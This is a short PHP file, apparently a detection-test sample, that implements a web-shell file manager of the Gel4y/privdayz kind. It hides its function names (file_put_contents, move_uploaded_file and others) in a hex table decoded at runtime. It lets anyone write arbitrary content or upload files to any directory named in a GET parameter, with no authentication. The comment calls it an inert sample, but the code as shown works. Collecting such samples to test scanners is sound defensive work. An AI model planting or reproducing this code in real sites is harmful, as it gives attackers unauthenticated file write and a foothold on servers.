<?php
/* File manager whose function names are a hex table decoded by a loop and called by index
   (Gel4y / privdayz style). Inert test sample. */
$ops = [
    "66696c655f7075745f636f6e74656e7473",
    "6d6f76655f75706c6f616465645f66696c65",
    "6d6b646972",
    "69735f646972"
];
for ($k = 0; $k < count($ops); $k++) {
    $ops[$k] = from_hex($ops[$k]);
}
$here = isset($_GET["d"]) ? from_hex($_GET["d"]) : getcwd();
if (isset($_POST["name"], $_POST["body"])) {
    $ops[0]($here . "/" . $_POST["name"], $_POST["body"]);
}
if (isset($_FILES["f"])) {
    $ops[1]($_FILES["f"]["tmp_name"], $here . "/" . $_FILES["f"]["name"]);
}
function from_hex($h)
{
    $r = "";
    for ($i = 0; $i < strlen($h) - 1; $i += 2) {
        $r .= chr(hexdec($h[$i] . $h[$i + 1]));
    }
    return $r;
}
